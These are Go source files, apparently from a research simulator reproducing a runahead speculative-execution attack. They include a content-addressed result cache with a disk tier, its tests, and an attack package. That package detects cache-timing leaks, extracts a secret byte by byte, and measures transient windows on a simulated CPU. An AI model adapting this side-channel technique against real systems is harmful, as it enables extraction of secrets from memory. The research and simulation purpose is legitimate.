// 256 MiB holds tens of thousands of typical encoded results.
const defaultDiskMaxBytes = 256 << 20

// openDiskStore scans dir and rebuilds the LRU index (recency order
// approximated by file mtime), evicting past the size bound.  Entry files
// are validated lazily — at read time, not during the scan — so startup
// cost is one stat per file.
func openDiskStore(dir string, maxBytes int64, logger *slog.Logger) (*diskStore, error) {
	if maxBytes <= 0 {
		maxBytes = defaultDiskMaxBytes
	}
	d := &diskStore{
		dir:      dir,
		tmpDir:   filepath.Join(dir, "tmp"),
		quarDir:  filepath.Join(dir, "quarantine"),
		maxBytes: maxBytes,
		ll:       list.New(),
		index:    make(map[string]*list.Element),
		logger:   logger,
		doFsync:  true,
	}
	for _, p := range []string{dir, d.tmpDir, d.quarDir} {
		if err := os.MkdirAll(p, 0o755); err != nil {
			return nil, err
		}
	}
	// Writability probe: degrade now, at open, rather than on the first
	// entry write under load.
	probe := filepath.Join(d.tmpDir, "probe")
	if err := os.WriteFile(probe, []byte("ok"), 0o644); err != nil {
		return nil, err
	}
	os.Remove(probe)

	// Leftover tmp files are casualties of a previous crash mid-write; their
	// entries were never visible, so they are garbage by construction.
	if names, err := os.ReadDir(d.tmpDir); err == nil {
		for _, n := range names {
			os.Remove(filepath.Join(d.tmpDir, n.Name()))
		}
	}

	ents, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	type scanned struct {
		key   string
		size  int64
		mtime int64
	}
	var found []scanned
	for _, e := range ents {
		if e.IsDir() || !isHexKey(e.Name()) {
			continue
		}
		info, err := e.Info()
		if err != nil {
			continue
		}
		found = append(found, scanned{key: e.Name(), size: info.Size(), mtime: info.ModTime().UnixNano()})
	}
	sort.Slice(found, func(a, b int) bool { return found[a].mtime < found[b].mtime })
	for _, f := range found { // oldest first: each PushFront leaves the LRU tail oldest
		d.index[f.key] = d.ll.PushFront(&diskEntry{key: f.key, size: f.size})
		d.bytes += f.size
	}
	d.evictLocked()
	return d, nil
}

// isHexKey filters directory noise: entry files are hex SHA-256 names.
func isHexKey(name string) bool {
	if len(name) != 2*sha256.Size {
		return false
	}
	for i := 0; i < len(name); i++ {
		c := name[i]
		if !('0' <= c && c <= '9' || 'a' <= c && c <= 'f') {
			return false
		}
	}
	return true
}

// get reads and verifies one entry.  Corrupt files are quarantined and
// reported as misses; the caller falls through to recomputation, and the
// eventual write replaces the entry.
func (d *diskStore) get(key string) ([]byte, bool) {
	d.mu.Lock()
	el, ok := d.index[key]
	if ok {
		d.ll.MoveToFront(el)
	}
	d.mu.Unlock()
	if !ok {
		d.count(func(s *DiskStats) { s.Misses++ })
		return nil, false
	}

	raw, err := os.ReadFile(filepath.Join(d.dir, key))
	if err == nil {
		err = faultinject.Err(faultinject.DiskRead)
	}
	if err != nil {
		if os.IsNotExist(err) {
			// The file vanished under us (eviction race, external cleanup):
			// drop the index entry and miss.
			d.drop(key)
			d.count(func(s *DiskStats) { s.Misses++ })
			return nil, false
		}
		d.count(func(s *DiskStats) { s.ReadErrors++; s.Misses++ })
		d.logger.Warn("rescache: disk read failed", "key", key, "error", err)
		return nil, false
	}
	if len(raw) < diskChecksumLen || sha256.Sum256(raw[diskChecksumLen:]) != [diskChecksumLen]byte(raw[:diskChecksumLen]) {
		d.quarantine(key)
		d.count(func(s *DiskStats) { s.Misses++ })
		return nil, false
	}
	d.count(func(s *DiskStats) { s.Hits++ })
	return raw[diskChecksumLen:], true
}

// put persists one entry atomically: checksum+payload into a tmp file,
// fsync, rename into place.  Failures are logged and counted but never
// propagate — the entry simply stays memory-only.
func (d *diskStore) put(key string, val []byte) {
	path := filepath.Join(d.dir, key)
	d.mu.Lock()
	if _, ok := d.index[key]; ok {
		d.mu.Unlock()
		return // content-addressed: an existing entry is already this value
	}
	d.mu.Unlock()

	sum := sha256.Sum256(val)
	err := faultinject.Err(faultinject.DiskWrite)
	tmp := filepath.Join(d.tmpDir, key)
	if err == nil {
		err = writeFileSync(tmp, sum[:], val, d.doFsync)
	}
	if err == nil {
		err = os.Rename(tmp, path)
	}
	if err != nil {
		os.Remove(tmp)
		d.count(func(s *DiskStats) { s.WriteErrors++ })
		d.logger.Warn("rescache: disk write failed, entry stays memory-only", "key", key, "error", err)
		return
	}

	size := int64(len(val) + diskChecksumLen)
	d.mu.Lock()
	if _, ok := d.index[key]; !ok {
		d.index[key] = d.ll.PushFront(&diskEntry{key: key, size: size})
		d.bytes += size
		d.stats.Writes++
		d.evictLocked()
	}
	d.mu.Unlock()
}

// writeFileSync writes header+payload and optionally fsyncs before close.
func writeFileSync(path string, header, payload []byte, doFsync bool) error {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o644)
	if err != nil {
		return err
	}
	if _, err = f.Write(header); err == nil {
		_, err = f.Write(payload)
	}
	if err == nil && doFsync {
		if err = faultinject.Err(faultinject.Fsync); err == nil {
			err = f.Sync()
		}
	}
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	return err
}

// evictLocked drops LRU-tail entries until the size bound holds (d.mu held).
func (d *diskStore) evictLocked() {
	for d.bytes > d.maxBytes && d.ll.Len() > 0 {
		tail := d.ll.Back()
		ent := tail.Value.(*diskEntry)
		d.ll.Remove(tail)
		delete(d.index, ent.key)
		d.bytes -= ent.size
		d.stats.Evictions++
		os.Remove(filepath.Join(d.dir, ent.key))
	}
}

// drop removes a key from the index without touching the file.
func (d *diskStore) drop(key string) {
	d.mu.Lock()
	defer d.mu.Unlock()
	if el, ok := d.index[key]; ok {
		ent := el.Value.(*diskEntry)
		d.ll.Remove(el)
		delete(d.index, key)
		d.bytes -= ent.size
	}
}

// quarantine moves a corrupt entry aside (never deletes — the bytes are
// evidence) and logs loudly.  The key becomes a miss and will be rewritten
// by the next computation.
func (d *diskStore) quarantine(key string) {
	d.drop(key)
	dst := filepath.Join(d.quarDir, key)
	if err := os.Rename(filepath.Join(d.dir, key), dst); err != nil {
		os.Remove(filepath.Join(d.dir, key)) // can't preserve it; at least stop serving it
		dst = "(unlinked)"
	}
	d.count(func(s *DiskStats) { s.Quarantined++ })
	d.logger.Warn("rescache: checksum mismatch, entry quarantined", "key", key, "moved_to", dst)
}

func (d *diskStore) count(f func(*DiskStats)) {
	d.mu.Lock()
	f(&d.stats)
	d.mu.Unlock()
}

func (d *diskStore) snapshot() *DiskStats {
	d.mu.Lock()
	defer d.mu.Unlock()
	s := d.stats
	s.Entries = d.ll.Len()
	s.Bytes = d.bytes
	s.MaxBytes = d.maxBytes
	return &s
}

// --- Cache integration ---

// DiskOptions configures the persistent tier.
type DiskOptions struct {
	// Dir is the entry directory (created if absent).
	Dir string
	// MaxBytes bounds the tier's resident size (0 = 256 MiB).
	MaxBytes int64
	// Logger receives degradation and corruption warnings (nil = discard).
	Logger *slog.Logger
	// NoFsync skips the per-entry fsync (tests; production keeps it for
	// kill -9 safety).
	NoFsync bool
}

// AttachDisk adds a persistent tier under the memory cache: entries are
// written through on store and consulted on memory misses, so previously
// computed results survive a restart.  If the directory cannot be prepared
// or is unwritable, the cache degrades to memory-only — a logged warning
// plus the Stats.Disk.Degraded flag, never a refusal to serve — and the
// error is returned for the caller's metrics.
func (c *Cache) AttachDisk(opts DiskOptions) error {
	logger := opts.Logger
	if logger == nil {
		logger = slog.New(slog.DiscardHandler)
	}
	d, err := openDiskStore(opts.Dir, opts.MaxBytes, logger)
	if err != nil {
		logger.Warn("rescache: disk tier unavailable, running memory-only", "dir", opts.Dir, "error", err)
		c.mu.Lock()
		c.diskDegraded = true
		c.mu.Unlock()
		return fmt.Errorf("rescache: disk tier %s: %w", opts.Dir, err)
	}
	d.doFsync = !opts.NoFsync
	c.mu.Lock()
	c.disk = d
	c.mu.Unlock()
	return nil
}

// diskGet consults the disk tier after a memory miss and, on a hit,
// promotes the entry into memory.  Called without c.mu held (file IO).
func (c *Cache) diskGet(key string) ([]byte, bool) {
	c.mu.Lock()
	d := c.disk
	c.mu.Unlock()
	if d == nil {
		return nil, false
	}
	val, ok := d.get(key)
	if !ok {
		return nil, false
	}
	c.mu.Lock()
	c.add(key, val)
	c.mu.Unlock()
	return val, true
}

// diskPut writes through to the disk tier.  Called without c.mu held.
func (c *Cache) diskPut(key string, val []byte) {
	c.mu.Lock()
	d := c.disk
	c.mu.Unlock()
	if d != nil {
		d.put(key, val)
	}
}
