package rescache

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

func compute(calls *atomic.Int64, val string) func() ([]byte, error) {
	return func() ([]byte, error) {
		calls.Add(1)
		return []byte(val), nil
	}
}

func TestDoHitMiss(t *testing.T) {
	c := New(4)
	var calls atomic.Int64
	ctx := context.Background()

	v1, hit, err := c.Do(ctx, "k", compute(&calls, "payload"))
	if err != nil || hit {
		t.Fatalf("first Do: val=%q hit=%v err=%v", v1, hit, err)
	}
	v2, hit, err := c.Do(ctx, "k", compute(&calls, "other"))
	if err != nil || !hit {
		t.Fatalf("second Do: hit=%v err=%v", hit, err)
	}
	if !bytes.Equal(v1, v2) {
		t.Fatalf("cached bytes differ: %q vs %q", v1, v2)
	}
	if n := calls.Load(); n != 1 {
		t.Fatalf("fn ran %d times, want 1", n)
	}
	st := c.Stats()
	if st.Hits != 1 || st.Misses != 1 || st.Entries != 1 {
		t.Fatalf("stats = %+v, want 1 hit / 1 miss / 1 entry", st)
	}
	if st.HitRate != 0.5 {
		t.Fatalf("hit rate = %v, want 0.5", st.HitRate)
	}
}

func TestLRUEviction(t *testing.T) {
	c := New(2)
	var calls atomic.Int64
	ctx := context.Background()
	for _, k := range []string{"a", "b", "c"} {
		if _, _, err := c.Do(ctx, k, compute(&calls, k)); err != nil {
			t.Fatal(err)
		}
	}
	st := c.Stats()
	if st.Entries != 2 || st.Evictions != 1 {
		t.Fatalf("stats = %+v, want 2 entries / 1 eviction", st)
	}
	// "a" was the LRU victim; "b" and "c" survive.
	if _, ok := c.Get("a"); ok {
		t.Fatal("evicted key still present")
	}
	for _, k := range []string{"b", "c"} {
		if v, ok := c.Get(k); !ok || string(v) != k {
			t.Fatalf("key %q: val=%q ok=%v", k, v, ok)
		}
	}
	// Touching "b" makes "c" the victim of the next insert.
	c.Get("b")
	c.Add("d", []byte("d"))
	if _, ok := c.Get("c"); ok {
		t.Fatal("LRU order ignored recency: c should have been evicted")
	}
	if v, ok := c.Get("b"); !ok || string(v) != "b" {
		t.Fatal("recently used key evicted")
	}
}

func TestSingleflight(t *testing.T) {
	c := New(4)
	var calls atomic.Int64
	release := make(chan struct{})
	const waiters = 10

	var wg sync.WaitGroup
	vals := make([][]byte, waiters)
	for i := 0; i < waiters; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			v, _, err := c.Do(context.Background(), "k", func() ([]byte, error) {
				calls.Add(1)
				<-release
				return []byte("once"), nil
			})
			if err != nil {
				t.Errorf("waiter %d: %v", i, err)
			}
			vals[i] = v
		}(i)
	}
	// Wait until one computation is in flight, then let it finish.
	deadline := time.Now().Add(5 * time.Second)
	for calls.Load() == 0 {
		if time.Now().After(deadline) {
			t.Fatal("computation never started")
		}
		time.Sleep(time.Millisecond)
	}
	// Give the other goroutines a moment to coalesce onto the flight, so the
	// dedup counter is meaningful (late arrivals would hit the cache instead,
	// which is also correct but exercises less).
	time.Sleep(20 * time.Millisecond)
	close(release)
	wg.Wait()

	if n := calls.Load(); n != 1 {
		t.Fatalf("fn ran %d times, want exactly 1", n)
	}
	for i, v := range vals {
		if string(v) != "once" {
			t.Fatalf("waiter %d got %q", i, v)
		}
	}
	st := c.Stats()
	if st.Misses != 1 || st.Hits+st.Dedups != waiters-1 {
		t.Fatalf("stats = %+v, want 1 miss and %d coalesced/hit lookups", st, waiters-1)
	}
}

func TestErrorNotCached(t *testing.T) {
	c := New(4)
	boom := errors.New("boom")
	ctx := context.Background()
	if _, _, err := c.Do(ctx, "k", func() ([]byte, error) { return nil, boom }); !errors.Is(err, boom) {
		t.Fatalf("err = %v, want boom", err)
	}
	var calls atomic.Int64
	v, hit, err := c.Do(ctx, "k", compute(&calls, "ok"))
	if err != nil || hit || string(v) != "ok" || calls.Load() != 1 {
		t.Fatalf("retry after error: val=%q hit=%v err=%v calls=%d", v, hit, err, calls.Load())
	}
	if st := c.Stats(); st.Entries != 1 {
		t.Fatalf("entries = %d, want only the successful result", st.Entries)
	}
}

func TestWaiterContextCancel(t *testing.T) {
	c := New(4)
	started := make(chan struct{})
	release := make(chan struct{})
	defer close(release)
	go c.Do(context.Background(), "k", func() ([]byte, error) {
		close(started)
		<-release
		return []byte("slow"), nil
	})
	<-started

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, _, err := c.Do(ctx, "k", func() ([]byte, error) {
		return nil, fmt.Errorf("must not run: flight in progress")
	})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}
