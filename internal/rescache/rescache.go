// Package rescache is a bounded, content-addressed result cache for the
// simulation server.  Every SPECRUN simulation is fully deterministic — a
// (driver, config, params) triple always produces byte-identical output —
// so encoded results are memoized under a canonical hash key (see
// core.HashKey) in an LRU map, with singleflight deduplication: concurrent
// requests for the same key run the computation exactly once and all
// receive the same bytes.
package rescache

import (
	"container/list"
	"context"
	"fmt"
	"sync"
)

// Stats is a point-in-time snapshot of cache effectiveness counters.
type Stats struct {
	Hits       uint64  `json:"hits"`        // served from a stored entry
	Misses     uint64  `json:"misses"`      // computations actually run
	Dedups     uint64  `json:"dedups"`      // callers coalesced onto an in-flight computation
	Evictions  uint64  `json:"evictions"`   // entries discarded by the LRU bound
	Entries    int     `json:"entries"`     // stored entries right now
	MaxEntries int     `json:"max_entries"` // capacity bound
	HitRate    float64 `json:"hit_rate"`    // (hits+dedups) / lookups, 0 when idle
}

type entry struct {
	key string
	val []byte
}

// flight is one in-progress computation; waiters block on done.
type flight struct {
	done chan struct{}
	val  []byte
	err  error
}

// Cache is the bounded LRU content-addressed cache.  All methods are safe
// for concurrent use.
type Cache struct {
	mu       sync.Mutex
	max      int
	ll       *list.List // front = most recently used; values are *entry
	entries  map[string]*list.Element
	inflight map[string]*flight

	hits, misses, dedups, evictions uint64
}

// New builds a cache bounded to max entries (max <= 0 selects 512).
func New(max int) *Cache {
	if max <= 0 {
		max = 512
	}
	return &Cache{
		max:      max,
		ll:       list.New(),
		entries:  make(map[string]*list.Element),
		inflight: make(map[string]*flight),
	}
}

// Do returns the cached bytes for key, or computes them: the first caller
// runs fn, concurrent callers for the same key wait for that one result
// (ctx aborts only the wait, never the computation), and a successful
// result is stored.  Errors are returned to every coalesced caller and not
// cached.  hit reports whether the bytes were served without running fn.
func (c *Cache) Do(ctx context.Context, key string, fn func() ([]byte, error)) (val []byte, hit bool, err error) {
	c.mu.Lock()
	if el, ok := c.entries[key]; ok {
		c.ll.MoveToFront(el)
		c.hits++
		val = el.Value.(*entry).val
		c.mu.Unlock()
		return val, true, nil
	}
	if f, ok := c.inflight[key]; ok {
		c.dedups++
		c.mu.Unlock()
		select {
		case <-f.done:
			return f.val, true, f.err
		case <-ctx.Done():
			return nil, false, ctx.Err()
		}
	}
	f := &flight{done: make(chan struct{})}
	c.inflight[key] = f
	c.misses++
	c.mu.Unlock()

	f.val, f.err = runProtected(fn)

	c.mu.Lock()
	delete(c.inflight, key)
	if f.err == nil {
		c.add(key, f.val)
	}
	c.mu.Unlock()
	close(f.done)
	return f.val, false, f.err
}

// runProtected converts a panicking computation into an error.  Without
// this, a panic in fn would unwind past the bookkeeping above, leaving the
// flight registered forever — every later request for the key would block
// on a done channel that never closes.
func runProtected(fn func() ([]byte, error)) (val []byte, err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("rescache: computation panicked: %v", r)
		}
	}()
	return fn()
}

// Get returns the stored bytes for key, counting a hit or a miss.
func (c *Cache) Get(key string) ([]byte, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	el, ok := c.entries[key]
	if !ok {
		c.misses++
		return nil, false
	}
	c.ll.MoveToFront(el)
	c.hits++
	return el.Value.(*entry).val, true
}

// Add stores val under key (replacing any previous value) without counting
// a lookup.  Used by the async job runner, which computes outside Do so a
// job cancellation never aborts co-waiting requests.
func (c *Cache) Add(key string, val []byte) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.add(key, val)
}

// add inserts under c.mu, evicting from the LRU tail past the bound.
func (c *Cache) add(key string, val []byte) {
	if el, ok := c.entries[key]; ok {
		el.Value.(*entry).val = val
		c.ll.MoveToFront(el)
		return
	}
	c.entries[key] = c.ll.PushFront(&entry{key: key, val: val})
	for c.ll.Len() > c.max {
		tail := c.ll.Back()
		c.ll.Remove(tail)
		delete(c.entries, tail.Value.(*entry).key)
		c.evictions++
	}
}

// Stats snapshots the counters.
func (c *Cache) Stats() Stats {
	c.mu.Lock()
	defer c.mu.Unlock()
	s := Stats{
		Hits:       c.hits,
		Misses:     c.misses,
		Dedups:     c.dedups,
		Evictions:  c.evictions,
		Entries:    c.ll.Len(),
		MaxEntries: c.max,
	}
	if lookups := s.Hits + s.Dedups + s.Misses; lookups > 0 {
		s.HitRate = float64(s.Hits+s.Dedups) / float64(lookups)
	}
	return s
}
