// Package rescache is a bounded, content-addressed result cache for the
// simulation server.  Every SPECRUN simulation is fully deterministic — a
// (driver, config, params) triple always produces byte-identical output —
// so encoded results are memoized under a canonical hash key (see
// core.HashKey) in an LRU map, with singleflight deduplication: concurrent
// requests for the same key run the computation exactly once and all
// receive the same bytes.
package rescache

import (
	"container/list"
	"context"
	"fmt"
	"sync"
)

// Stats is a point-in-time snapshot of cache effectiveness counters.
type Stats struct {
	Hits       uint64     `json:"hits"`        // served from a stored entry (memory or disk)
	Misses     uint64     `json:"misses"`      // computations actually run
	Dedups     uint64     `json:"dedups"`      // callers coalesced onto an in-flight computation
	Evictions  uint64     `json:"evictions"`   // entries discarded by the LRU bound
	Entries    int        `json:"entries"`     // stored entries right now
	MaxEntries int        `json:"max_entries"` // capacity bound
	HitRate    float64    `json:"hit_rate"`    // (hits+dedups) / lookups, 0 when idle
	Disk       *DiskStats `json:"disk,omitempty"` // persistent tier, when attached (see AttachDisk)
}

type entry struct {
	key string
	val []byte
}

// flight is one in-progress computation; waiters block on done.
type flight struct {
	done chan struct{}
	val  []byte
	err  error
}

// Cache is the bounded LRU content-addressed cache.  All methods are safe
// for concurrent use.
type Cache struct {
	mu       sync.Mutex
	max      int
	ll       *list.List // front = most recently used; values are *entry
	entries  map[string]*list.Element
	inflight map[string]*flight

	// disk is the optional persistent tier (AttachDisk): consulted after a
	// memory miss, written through on store.  diskDegraded records that an
	// attach failed, for Stats.
	disk         *diskStore
	diskDegraded bool

	hits, misses, dedups, evictions uint64
}

// New builds a cache bounded to max entries (max <= 0 selects 512).
func New(max int) *Cache {
	if max <= 0 {
		max = 512
	}
	return &Cache{
		max:      max,
		ll:       list.New(),
		entries:  make(map[string]*list.Element),
		inflight: make(map[string]*flight),
	}
}

// Do returns the cached bytes for key, or computes them: the first caller
// runs fn, concurrent callers for the same key wait for that one result
// (ctx aborts only the wait, never the computation), and a successful
// result is stored.  Errors are returned to every coalesced caller and not
// cached.  hit reports whether the bytes were served without running fn.
func (c *Cache) Do(ctx context.Context, key string, fn func() ([]byte, error)) (val []byte, hit bool, err error) {
	probedDisk := false
	for {
		c.mu.Lock()
		if el, ok := c.entries[key]; ok {
			c.ll.MoveToFront(el)
			c.hits++
			val = el.Value.(*entry).val
			c.mu.Unlock()
			return val, true, nil
		}
		if f, ok := c.inflight[key]; ok {
			c.dedups++
			c.mu.Unlock()
			select {
			case <-f.done:
				return f.val, true, f.err
			case <-ctx.Done():
				return nil, false, ctx.Err()
			}
		}
		if d := c.disk; d != nil && !probedDisk {
			// Disk probe happens outside the lock (file IO), then the loop
			// re-checks: another caller may have promoted the entry or
			// registered a flight meanwhile.
			c.mu.Unlock()
			probedDisk = true
			if v, ok := d.get(key); ok {
				c.mu.Lock()
				c.hits++
				c.add(key, v)
				c.mu.Unlock()
				return v, true, nil
			}
			continue
		}
		f := &flight{done: make(chan struct{})}
		c.inflight[key] = f
		c.misses++
		c.mu.Unlock()

		f.val, f.err = runProtected(fn)

		c.mu.Lock()
		delete(c.inflight, key)
		if f.err == nil {
			c.add(key, f.val)
		}
		c.mu.Unlock()
		if f.err == nil {
			c.diskPut(key, f.val)
		}
		close(f.done)
		return f.val, false, f.err
	}
}

// runProtected converts a panicking computation into an error.  Without
// this, a panic in fn would unwind past the bookkeeping above, leaving the
// flight registered forever — every later request for the key would block
// on a done channel that never closes.
func runProtected(fn func() ([]byte, error)) (val []byte, err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("rescache: computation panicked: %v", r)
		}
	}()
	return fn()
}

// Get returns the stored bytes for key, counting a hit or a miss.  With a
// disk tier attached, a memory miss falls through to disk, promoting the
// entry back into memory on a hit.
func (c *Cache) Get(key string) ([]byte, bool) {
	c.mu.Lock()
	if el, ok := c.entries[key]; ok {
		c.ll.MoveToFront(el)
		c.hits++
		v := el.Value.(*entry).val
		c.mu.Unlock()
		return v, true
	}
	hasDisk := c.disk != nil
	c.mu.Unlock()
	if hasDisk {
		if v, ok := c.diskGet(key); ok {
			c.mu.Lock()
			c.hits++
			c.mu.Unlock()
			return v, true
		}
	}
	c.mu.Lock()
	c.misses++
	c.mu.Unlock()
	return nil, false
}

// Add stores val under key (replacing any previous value) without counting
// a lookup, writing through to the disk tier when attached.  Used by the
// async job runner, which computes outside Do so a job cancellation never
// aborts co-waiting requests.
func (c *Cache) Add(key string, val []byte) {
	c.mu.Lock()
	c.add(key, val)
	c.mu.Unlock()
	c.diskPut(key, val)
}

// add inserts under c.mu, evicting from the LRU tail past the bound.
func (c *Cache) add(key string, val []byte) {
	if el, ok := c.entries[key]; ok {
		el.Value.(*entry).val = val
		c.ll.MoveToFront(el)
		return
	}
	c.entries[key] = c.ll.PushFront(&entry{key: key, val: val})
	for c.ll.Len() > c.max {
		tail := c.ll.Back()
		c.ll.Remove(tail)
		delete(c.entries, tail.Value.(*entry).key)
		c.evictions++
	}
}

// Stats snapshots the counters.
func (c *Cache) Stats() Stats {
	c.mu.Lock()
	s := Stats{
		Hits:       c.hits,
		Misses:     c.misses,
		Dedups:     c.dedups,
		Evictions:  c.evictions,
		Entries:    c.ll.Len(),
		MaxEntries: c.max,
	}
	d := c.disk
	degraded := c.diskDegraded
	c.mu.Unlock()
	if lookups := s.Hits + s.Dedups + s.Misses; lookups > 0 {
		s.HitRate = float64(s.Hits+s.Dedups) / float64(lookups)
	}
	if d != nil {
		s.Disk = d.snapshot()
	} else if degraded {
		s.Disk = &DiskStats{Degraded: true}
	}
	return s
}
