package attack

import (
	"context"
	"fmt"
	"sort"

	"specrun/internal/cpu"
	"specrun/internal/sweep"
)

// Analysis interprets one probe sweep (the data behind Fig. 9 / Fig. 11).
type Analysis struct {
	Latencies []uint64 `json:"latencies"`
	BestIdx   int      `json:"best_idx"` // index with the fastest access
	BestLat   uint64   `json:"best_lat"` // its latency
	Median    uint64   `json:"median"`   // median across all indices
	Leaked    bool     `json:"leaked"`   // BestLat is an outlier hit: the covert channel fired
}

// hitFactor: an index counts as leaked if its latency is below median/hitFactor.
const hitFactor = 3

// Analyze classifies a probe sweep.
func Analyze(lat []uint64) Analysis {
	a := Analysis{Latencies: lat, BestIdx: -1}
	if len(lat) == 0 {
		return a
	}
	sorted := append([]uint64(nil), lat...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
	a.Median = sorted[len(sorted)/2]
	best := uint64(1<<63 - 1)
	for i, v := range lat {
		if v < best {
			best, a.BestIdx = v, i
		}
	}
	a.BestLat = best
	a.Leaked = a.Median > 0 && best < a.Median/hitFactor
	return a
}

// LeakedByte returns the recovered byte if the channel fired.
func (a Analysis) LeakedByte() (byte, bool) {
	if !a.Leaked || a.BestIdx < 0 {
		return 0, false
	}
	return byte(a.BestIdx), true
}

// Result is one full PoC run.  The embedded Analysis flattens into the JSON
// document, so the wire shape is {"latencies": ..., "layout": ..., "stats": ...}.
type Result struct {
	Analysis
	Layout Layout    `json:"layout"`
	Stats  cpu.Stats `json:"stats"`
}

// runBudget bounds one PoC simulation.
const runBudget = 10_000_000

// Run builds and executes the PoC on a machine with configuration cfg.
func Run(cfg cpu.Config, p Params) (Result, error) {
	prog, l, err := Build(p)
	if err != nil {
		return Result{}, err
	}
	c := cpu.New(cfg, prog)
	if err := c.Run(runBudget); err != nil {
		return Result{}, fmt.Errorf("attack: %s run: %w", p.Variant, err)
	}
	return Result{
		Analysis: Analyze(ReadLatencies(c, l)),
		Layout:   l,
		Stats:    *c.Stats(),
	}, nil
}

// LeakSecret extracts every byte of p.Secret by re-running the PoC with an
// advancing target address, as the paper's attacker would.  It returns the
// recovered bytes (0 where the channel failed) and the per-byte results.
func LeakSecret(cfg cpu.Config, p Params) ([]byte, []Result, error) {
	return LeakSecretCtx(context.Background(), cfg, p, 0)
}

// LeakSecretCtx is LeakSecret with cancellation and an explicit worker
// count (0 = GOMAXPROCS).  Each byte extraction is an independent PoC run
// on a fresh machine, so they shard across the sweep engine.
func LeakSecretCtx(ctx context.Context, cfg cpu.Config, p Params, workers int) ([]byte, []Result, error) {
	idx := make([]int, len(p.Secret))
	for i := range idx {
		idx[i] = i
	}
	results, err := sweep.First(ctx, idx, func(_ context.Context, i int) (Result, error) {
		q := p
		q.SecretIdx = i
		return Run(cfg, q)
	}, sweep.Options{Workers: workers})
	if err != nil {
		return nil, nil, err
	}
	out := make([]byte, len(p.Secret))
	for i, r := range results {
		if v, ok := r.LeakedByte(); ok {
			out[i] = v
		}
	}
	return out, results, nil
}
