package attack

import (
	"context"
	"fmt"

	"specrun/internal/asm"
	"specrun/internal/cpu"
	"specrun/internal/isa"
	"specrun/internal/runahead"
	"specrun/internal/sweep"
)

// WindowScenario selects one of the three Fig. 10 measurements of the
// transient instruction window (§5.3).
type WindowScenario int

const (
	// Window1NormalFlushOnce: no runahead; the window is bounded by the
	// reorder buffer (N1 = ROB size - 1).
	Window1NormalFlushOnce WindowScenario = iota
	// Window2RunaheadFlushOnce: one runahead episode; pseudo-retirement
	// logically extends the ROB (N2).
	Window2RunaheadFlushOnce
	// Window3RunaheadFlushRepeat: the attacker re-flushes the stalling
	// datum after each episode; instruction-cache warm-up lets later
	// episodes run deeper (N3).
	Window3RunaheadFlushRepeat
)

func (w WindowScenario) String() string {
	switch w {
	case Window1NormalFlushOnce:
		return "normal/flush-once (N1)"
	case Window2RunaheadFlushOnce:
		return "runahead/flush-once (N2)"
	case Window3RunaheadFlushRepeat:
		return "runahead/flush-repeat (N3)"
	}
	return "unknown"
}

// MarshalText renders the scenario as a compact stable token for JSON.
func (w WindowScenario) MarshalText() ([]byte, error) {
	switch w {
	case Window1NormalFlushOnce:
		return []byte("normal-flush-once"), nil
	case Window2RunaheadFlushOnce:
		return []byte("runahead-flush-once"), nil
	case Window3RunaheadFlushRepeat:
		return []byte("runahead-flush-repeat"), nil
	}
	return nil, fmt.Errorf("attack: unknown window scenario %d", w)
}

// UnmarshalText parses the MarshalText form.
func (w *WindowScenario) UnmarshalText(text []byte) error {
	switch s := string(text); s {
	case "normal-flush-once":
		*w = Window1NormalFlushOnce
	case "runahead-flush-once":
		*w = Window2RunaheadFlushOnce
	case "runahead-flush-repeat":
		*w = Window3RunaheadFlushRepeat
	default:
		return fmt.Errorf("attack: unknown window scenario %q", s)
	}
	return nil
}

// windowNops is the length of the NOP stream behind the stalling load; it
// must exceed any reachable window.
const windowNops = 4000

// windowRepeats is the number of flush+load rounds in scenario ③.
const windowRepeats = 3

// evictorNops sizes a dummy code region larger than the L1 I-cache, so
// executing it once evicts the measured stream from L1I while leaving it in
// the unified L2/L3.
const evictorNops = 8192

// BuildWindowProgram assembles the Fig. 10 measurement for a scenario.
//
// All scenarios share the structure of any real measurement binary: the
// stream has executed before (so its code is resident in the unified L2/L3)
// but other code has since displaced it from the small L1 I-cache.  The
// measured rounds are then exactly the paper's snippets:
//
//	clflush x; fence
//	ld   x              ; the stalling load
//	nop  × windowNops
//
// Scenario ① runs one flush round on a no-runahead machine (the window is
// ROB-bound).  Scenario ② runs one flush round: the single runahead episode
// streams instructions from L2, which bounds its reach.  Scenario ③ repeats
// the flush: the first episode (and the architectural re-execution after it)
// re-warms L1I, so later episodes run substantially deeper — the paper's
// "possibility for further increasing the size of SEW".
func BuildWindowProgram(s WindowScenario) *asm.Program {
	b := asm.NewBuilder(0x1000, 0x100000)
	x := b.Alloc("x", 64, 64)
	b.Alloc("wstack", 1024, 64)
	b.MoviAddr(isa.SP, b.MustSymNow("wstack")+1024)
	b.MoviAddr(isa.R(1), x)

	// Phase 0: warm pass — x cached, code lines filled into L1I/L2/L3.
	b.Call("stream")
	// Phase 1: displace the stream from L1I (but not L2/L3).
	b.Call("evictor")
	// Phase 2: the measured flush round(s).
	repeats := 1
	if s == Window3RunaheadFlushRepeat {
		repeats = windowRepeats
	}
	b.Movi(isa.R(2), int64(repeats))
	b.Label("round")
	b.Clflush(isa.R(1), 0)
	b.Fence()
	b.Call("stream")
	b.Addi(isa.R(2), isa.R(2), -1)
	b.Bne(isa.R(2), isa.R(0), "round")
	b.Halt()

	b.Label("stream")
	b.Ld(isa.R(3), isa.R(1), 0) // the (potentially stalling) load
	b.NopN(windowNops)
	b.Ret()

	b.Label("evictor")
	b.NopN(evictorNops)
	b.Ret()

	return b.MustBuild()
}

// WindowResult is one Fig. 10 measurement.
type WindowResult struct {
	Scenario WindowScenario `json:"scenario"`
	N        uint64         `json:"n"` // transient instructions executable during the stall
	Episodes uint64         `json:"episodes"`
	Reaches  []uint64       `json:"reaches,omitempty"`
}

// MeasureWindow runs one scenario and reports the measured window size:
